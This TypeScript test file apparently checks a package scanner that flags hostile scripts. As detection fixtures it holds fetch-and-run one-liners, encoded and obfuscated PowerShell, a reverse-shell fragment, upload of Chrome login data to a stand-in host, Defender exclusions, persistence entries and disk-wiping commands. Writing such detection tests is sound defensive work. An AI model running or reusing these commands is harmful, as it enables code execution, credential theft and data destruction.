import assert from 'node:assert/strict';
import { scripts } from '../../../../src/scanners/code/carriers/scripts.js';
import { entryOf, hostile, hugeEntry, kinds, read, wheel } from './helpers.js';

const fetches = 'curl http://a.invalid | sh\n';
const encoded = Buffer.from('Write-Output 1;'.repeat(8), 'utf16le').toString('base64');

describe('the carrier of scripts', () => {
  const flagged: readonly (readonly [string, string, string, string])[] = [
    ['a shell script', 'pkg/run.sh', fetches, 'script-fetch-and-run'],
    [
      'a file with a line that names a shell',
      'demo-1.0.data/scripts/demo',
      `#!/usr/bin/env bash\n${fetches}`,
      'script-fetch-and-run',
    ],
    [
      'a desktop file',
      'pkg/demo.desktop',
      `[Desktop Entry]\nExec=sh -c "${fetches.trim()}"\n`,
      'script-fetch-and-run',
    ],
    [
      'a unit of systemd',
      'pkg/demo.service',
      `[Service]\nExecStart=-/bin/sh -c '${fetches.trim()}'\n`,
      'script-fetch-and-run',
    ],
    [
      'AppleScript',
      'pkg/a.applescript',
      'do shell script "curl http://a.invalid | sh"\n',
      'script-fetch-and-run',
    ],
    [
      'a dialog that asks for a password',
      'pkg/a.applescript',
      'display dialog "?" default answer "" with hidden answer\n',
      'read-credentials',
    ],
    [
      'a file for cron outside of the package',
      'demo-1.0.data/data/etc/cron.d/demo',
      '# nothing\n',
      'installs-autostart',
    ],
    [
      'an autostart entry',
      'demo-1.0.data/data/etc/xdg/autostart/demo.desktop',
      '[Desktop Entry]\nExec=demo\n',
      'installs-autostart',
    ],
    ['code behind many blanks', 'pkg/run.sh', `echo a${' '.repeat(200)}; touch b; true\n`, 'hidden-code'],
    ['an encoded command', 'pkg/a.bat', `powershell -nop -enc ${encoded}\r\n`, 'script-runs-encoded'],
    ['the same with carets', 'pkg/a.cmd', `p^o^w^ershell -e^nc ${encoded}\r\n`, 'script-runs-encoded'],
    [
      'a string that is fetched and run',
      'pkg/a.ps1',
      "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid')\n",
      'script-fetch-and-run',
    ],
    [
      'the same with back quotes and pieces',
      'pkg/a.ps1',
      "`i`e`x (irm ('http://a.'+'invalid'))\n",
      'script-fetch-and-run',
    ],
    ['the same over two lines', 'pkg/a.ps1', 'irm http://a.invalid `\n | iex\n', 'script-fetch-and-run'],
    ['the same in UTF-16', 'pkg/a.ps1', 'irm http://a.invalid | iex\n', 'script-fetch-and-run'],
    [
      'base64 that is run',
      'pkg/a.ps1',
      '[Reflection.Assembly]::Load([Convert]::FromBase64String($x))\n',
      'script-decode-and-run',
    ],
    ['certutil', 'pkg/a.bat', 'certutil -urlcache -f http://a.invalid a.txt\n', 'script-odd-tool'],
    ['mshta', 'pkg/a.bat', 'start mshta http://a.invalid\n', 'script-odd-tool'],
    [
      'an exclusion of the defender',
      'pkg/a.ps1',
      'Add-MpPreference -ExclusionPath $env:TEMP\n',
      'script-defence-off',
    ],
    [
      'a Run key',
      'pkg/a.bat',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b\n',
      'script-persist',
    ],
    ['a task', 'pkg/a.bat', 'schtasks /create /tn a /tr b /sc onlogon\n', 'script-autostart'],
    ['a disk that is emptied', 'pkg/a.bat', 'del /f /s /q c:\\*.*\n', 'script-destroys'],
    [
      'a profile that is removed',
      'pkg/a.ps1',
      'Remove-Item -Recurse -Force $env:USERPROFILE\n',
      'script-destroys',
    ],
    [
      'a program that is fetched and started by VBScript',
      'pkg/a.vbs',
      'Set h = CreateObject("MSXML2.XMLHTTP")\nCreateObject("WScript.Shell").Run "a.exe"\n',
      'script-download-and-start',
    ],
    [
      'a shell over TCP',
      'pkg/a.ps1',
      '$c = New-Object System.Net.Sockets.TCPClient("a.invalid",1);$s=$c.GetStream()\n$r = (iex $d 2>&1 | Out-String)\n',
      'reverse-shell',
    ],
    [
      'logins that are sent',
      'pkg/a.ps1',
      '$p = "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data"\n(New-Object Net.WebClient).UploadFile("http://a.invalid", $p)\n',
      'script-sends-secrets',
    ],
    [
      'a command out of variables',
      'pkg/a.bat',
      `set x=power\r\nset y=shell\r\n%x%%y% -enc ${encoded}\r\n`,
      'script-runs-encoded',
    ],
    [
      'a program that curl fetches and cmd starts',
      'pkg/a.bat',
      'curl -o %TEMP%\\a.exe http://a.invalid\r\nstart "" %TEMP%\\a.exe\r\n',
      'script-download-and-start',
    ],
    [
      'base64 in one line and its run in another',
      'pkg/a.ps1',
      '$b = [Convert]::FromBase64String($x)\n[Text.Encoding]::UTF8.GetString($b) | iex\n',
      'script-decode-and-run',
    ],
    [
      'VBScript out of characters',
      'pkg/a.vbs',
      'Execute(Chr(77)&Chr(115)&Chr(103))\n',
      'script-decode-and-run',
    ],
    ['words full of carets', 'pkg/a.bat', 'e^c^h^o a^b^c^d^e^f^g\n'.repeat(10), 'script-obfuscated'],
  ];
  for (const [name, path, text, what] of flagged) {
    it(`sees ${name}`, () => {
      const utf16 = name.includes('UTF-16');
      const content = utf16 ? Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]) : text;
      assert.deepEqual(kinds(read(scripts, path, content)), [what]);
    });
  }

  const clean: readonly (readonly [string, string, string])[] = [
    ['an activation script', 'pkg/activate.sh', 'PATH="$VIRTUAL_ENV/bin:$PATH"\nexport PATH\n'],
    [
      'a batch file',
      'pkg/make.bat',
      '@ECHO OFF\nif "%1" == "" goto help\n%SPHINXBUILD% -M %1 source build %O%\n:help\n',
    ],
    [
      'PowerShell that fetches a file',
      'pkg/a.ps1',
      'Invoke-WebRequest -Uri http://a.invalid -OutFile a.zip\nExpand-Archive a.zip\n',
    ],
    [
      'PowerShell whose comment shows how to install',
      'pkg/a.ps1',
      '# irm http://a.invalid | iex\nWrite-Output 1\n',
    ],
    ['a batch file whose comment does', 'pkg/a.bat', 'REM powershell irm http://a.invalid ^| iex\n'],
    [
      'a key of the registry that is read',
      'pkg/a.bat',
      'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n',
    ],
    ['a folder that is removed', 'pkg/a.bat', 'rmdir /s /q build\ndel /q c:\\temp\\demo\\*.log\n'],
    [
      'a desktop file',
      'demo-1.0.data/data/share/applications/demo.desktop',
      '[Desktop Entry]\nExec=demo %f\n',
    ],
    ['a licence', 'pkg/LICENSE', 'curl http://a.invalid | sh\n'],
    ['columns of blanks in a table', 'pkg/run.sh', `# a${' '.repeat(200)}b (c)\necho\n`],
    [
      'a script of the scripts scheme that is Python',
      'demo-1.0.data/scripts/demo',
      '#!python\nimport demo\n',
    ],
  ];
  for (const [name, path, text] of clean) {
    it(`says nothing of ${name}`, () => {
      assert.deepEqual(read(scripts, path, text), []);
    });
  }

  it('reads Python behind a line that names it, wherever it lies', () => {
    const code = "#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    assert.ok(kinds(read(scripts, 'pkg/tool', code)).includes('decode-and-execute'));
    assert.deepEqual(read(scripts, 'demo-1.0.data/scripts/tool', code), [], 'the scanner itself reads those');
  });

  it('knows scripts among tests', () => {
    assert.equal(read(scripts, 'pkg/tests/run.sh', fetches)[0]?.moment, 'tests');
    assert.equal(read(scripts, 'pkg/run.sh', fetches)[0]?.moment, 'call');
  });

  it('says that a script is too large to be read', () => {
    assert.deepEqual(kinds(scripts.read(hugeEntry('pkg/run.sh'), wheel)), ['not-looked-at']);
    const large = entryOf('pkg/run.sh', Buffer.alloc(5 << 20, 'a\n'));
    assert.deepEqual(kinds(scripts.read(large, wheel)), ['not-looked-at']);
  });

  it('does not fit what has a reader of its own', () => {
    for (const path of ['pkg/__init__.py', 'pkg/a.json', 'pkg/a.so', 'pkg/a.js', 'pkg/a.png']) {
      assert.equal(scripts.fits(path), false, path);
    }
  });

  for (const path of [
    'pkg/a.sh',
    'pkg/a.bat',
    'pkg/a.ps1',
    'pkg/a.vbs',
    'pkg/a.desktop',
    'pkg/a.applescript',
    'pkg/a',
  ]) {
    for (const [name, bytes] of hostile) {
      it(`reads ${name} as ${path}`, () => {
        assert.ok(Array.isArray(read(scripts, path, bytes)));
      });
    }
  }
});
